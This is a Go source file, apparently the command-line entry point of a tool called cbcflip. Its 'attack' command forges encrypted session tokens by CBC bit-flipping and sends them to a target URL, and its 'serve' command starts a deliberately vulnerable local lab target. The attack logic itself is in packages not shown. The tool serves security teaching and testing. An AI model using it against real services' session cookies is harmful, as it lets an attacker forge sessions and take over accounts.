package main

import (
	"context"
	"errors"
	"fmt"
	"os"
	"strings"
	"time"

	"github.com/joho/godotenv"
	"github.com/spf13/cobra"

	"cbcflip/internal/flip"
	"cbcflip/internal/lab"
	"cbcflip/internal/oracle"
	"cbcflip/internal/probes/cbcflip"
	"cbcflip/internal/report"
	"cbcflip/pkg/logx"
)

var (
	flagOut        string
	flagHTML       string
	flagPDF        string
	flagTimeout    time.Duration
	flagLogLevel   string
	flagNoProgress bool
)

func main() {
	// A missing .env is fine; flags and the real environment still apply.
	_ = godotenv.Load()

	root := &cobra.Command{
		Use:           "cbcflip",
		Short:         "CBC bit-flipping of server-validated tokens",
		SilenceUsage:  true,
		SilenceErrors: true,
	}

	root.PersistentFlags().StringVar(&flagOut, "out", env("CBCFLIP_OUT", ""), "JSON report output path")
	root.PersistentFlags().StringVar(&flagHTML, "html", "", "HTML report output path")
	root.PersistentFlags().StringVar(&flagPDF, "pdf", "", "PDF report output path")
	root.PersistentFlags().DurationVar(&flagTimeout, "timeout", envDuration("CBCFLIP_TIMEOUT", 0), "Global timeout (0 = none)")
	root.PersistentFlags().StringVar(&flagLogLevel, "log-level", env("CBCFLIP_LOG_LEVEL", "info"), "log level: debug,info,warn,error")
	root.PersistentFlags().BoolVar(&flagNoProgress, "no-progress", false, "Disable the per-byte progress bar")

	root.AddCommand(cmdAttack())
	root.AddCommand(cmdServeLab())
	root.AddCommand(cmdReport())

	err := root.Execute()
	logx.Sync()
	if err != nil {
		var ee exitError
		if errors.As(err, &ee) {
			fmt.Fprintln(os.Stderr, ee.err)
			os.Exit(ee.code)
		}
		fmt.Fprintln(os.Stderr, err)
		os.Exit(3)
	}
}

func cmdAttack() *cobra.Command {
	var (
		opt    cbcflip.Options
		params []string
	)
	cmd := &cobra.Command{
		Use:   "attack",
		Short: "Flip session bytes until the target accepts the new plaintext",
		RunE: func(cmd *cobra.Command, args []string) error {
			logx.SetLevel(flagLogLevel)
			if err := checkRequired(opt); err != nil {
				return exitCodeErr(3, err)
			}
			p, err := parseParams(params)
			if err != nil {
				return exitCodeErr(3, err)
			}
			opt.Params = p
			if !flagNoProgress && !opt.DryRun && !logx.Enabled("debug") {
				opt.Observer = newProgressObserver(os.Stderr)
			}

			ctx := cmd.Context()
			if flagTimeout > 0 {
				var cancel context.CancelFunc
				ctx, cancel = context.WithTimeout(ctx, flagTimeout)
				defer cancel()
			}
			res, err := cbcflip.Run(ctx, opt)
			var pe *flip.PreconditionError
			if errors.As(err, &pe) {
				return exitCodeErr(3, err)
			}
			if res != nil {
				report.WriteConsole(os.Stdout, res)
				if werr := writeReports(res); werr != nil {
					return exitCodeErr(4, werr)
				}
			}
			if err != nil {
				return exitCodeErr(4, err)
			}
			if res.HasFailures() && !opt.DryRun {
				return exitCodeErr(2, fmt.Errorf("attack did not finalize"))
			}
			return nil
		},
	}
	f := cmd.Flags()
	f.StringVar(&opt.Target, "url", env("CBCFLIP_URL", ""), "Target URL (e.g. http://127.0.0.1:9091/read)")
	f.StringVar(&opt.Session, "session", env("CBCFLIP_SESSION", ""), "Original session (base64)")
	f.StringVar(&opt.Old, "old", "", "Plaintext the server currently decrypts, from byte 0")
	f.StringVar(&opt.New, "new", "", "Plaintext to achieve (same length as --old)")
	f.StringArrayVar(&params, "param", nil, "Extra GET param KEY=VALUE (repeatable)")
	f.StringVar(&opt.Success, "success-substring", env("CBCFLIP_SUCCESS", ""), "Response substring that marks a candidate as successful")
	f.DurationVar(&opt.Delay, "delay", envDuration("CBCFLIP_DELAY", oracle.DefaultDelay), "Delay between requests")
	f.DurationVar(&opt.Timeout, "request-timeout", envDuration("CBCFLIP_REQUEST_TIMEOUT", oracle.DefaultTimeout), "Per-request timeout")
	f.StringVar(&opt.Cookie, "cookie", env("CBCFLIP_COOKIE", oracle.DefaultCookie), "Cookie that carries the session")
	f.StringVar(&opt.Encoding, "encoding", env("CBCFLIP_ENCODING", "std"), "Session encoding: std, url, raw-std, raw-url")
	f.IntVar(&opt.BlockSize, "block-size", envInt("CBCFLIP_BLOCK_SIZE", flip.BlockSize), "Cipher block size in bytes")
	f.StringVar(&opt.Layout, "layout", env("CBCFLIP_LAYOUT", "iv-prefixed"), "Token layout: iv-prefixed or iv-detached")
	f.BoolVar(&opt.DryRun, "dry-run", false, "Print planned offsets and the XOR-model prediction without sending requests")
	return cmd
}

func cmdServeLab() *cobra.Command {
	var (
		addr string
		opt  lab.Options
	)
	cmd := &cobra.Command{
		Use:   "serve",
		Short: "Start the deliberately vulnerable lab target",
		RunE: func(cmd *cobra.Command, args []string) error {
			logx.SetLevel(flagLogLevel)
			return lab.Serve(addr, opt)
		},
	}
	cmd.Flags().StringVar(&addr, "addr", env("CBCFLIP_LAB_ADDR", "127.0.0.1:9091"), "listen address")
	cmd.Flags().StringVar(&opt.Passphrase, "passphrase", env("CBCFLIP_LAB_PASSPHRASE", "lab-only-secret"), "passphrase the session key is derived from")
	cmd.Flags().BoolVar(&opt.AEAD, "aead", false, "Seal sessions with XChaCha20-Poly1305 (flipping must fail)")
	return cmd
}

func cmdReport() *cobra.Command {
	var in []string
	cmd := &cobra.Command{
		Use:   "report",
		Short: "Convert/merge JSON to HTML/PDF",
		RunE: func(cmd *cobra.Command, args []string) error {
			if len(in) == 0 {
				return fmt.Errorf("provide at least one JSON via --in")
			}
			merged, err := report.MergeJSONFiles(in)
			if err != nil {
				return err
			}
			report.WriteConsole(os.Stdout, merged)
			return writeReports(merged)
		},
	}
	cmd.Flags().StringSliceVar(&in, "in", nil, "input JSONs to merge")
	return cmd
}

func writeReports(res *report.Results) error {
	if flagOut != "" {
		if err := report.WriteJSONToFile(res, flagOut); err != nil {
			return err
		}
		logx.Infof("wrote JSON report: %s", flagOut)
	}
	if flagHTML != "" {
		html := report.RenderHTML(res)
		if err := os.WriteFile(flagHTML, []byte(html), 0o644); err != nil {
			return err
		}
		logx.Infof("wrote HTML report: %s", flagHTML)
	}
	if flagPDF != "" {
		if err := report.RenderPDFToFile(res, flagPDF); err != nil {
			logx.Warnf("PDF generation failed, wrote HTML if provided: %v", err)
			return nil
		}
		logx.Infof("wrote PDF report: %s", flagPDF)
	}
	return nil
}

func checkRequired(opt cbcflip.Options) error {
	if opt.Target == "" || opt.Session == "" {
		return fmt.Errorf("--url and --session are required")
	}
	if opt.Old == "" || opt.New == "" {
		return fmt.Errorf("--old and --new are required")
	}
	return nil
}

// parseParams turns repeated KEY=VALUE flags into query values.
func parseParams(kvs []string) (map[string][]string, error) {
	out := map[string][]string{}
	for _, kv := range kvs {
		k, v, ok := strings.Cut(kv, "=")
		if !ok || k == "" {
			return nil, fmt.Errorf("--param %q: want KEY=VALUE", kv)
		}
		out[k] = append(out[k], v)
	}
	return out, nil
}

type exitError struct{ code int; err error }
func (e exitError) Error() string { return e.err.Error() }
func exitCodeErr(code int, err error) error { return exitError{code: code, err: err} }

func init() { cobra.MousetrapHelpText = "" }
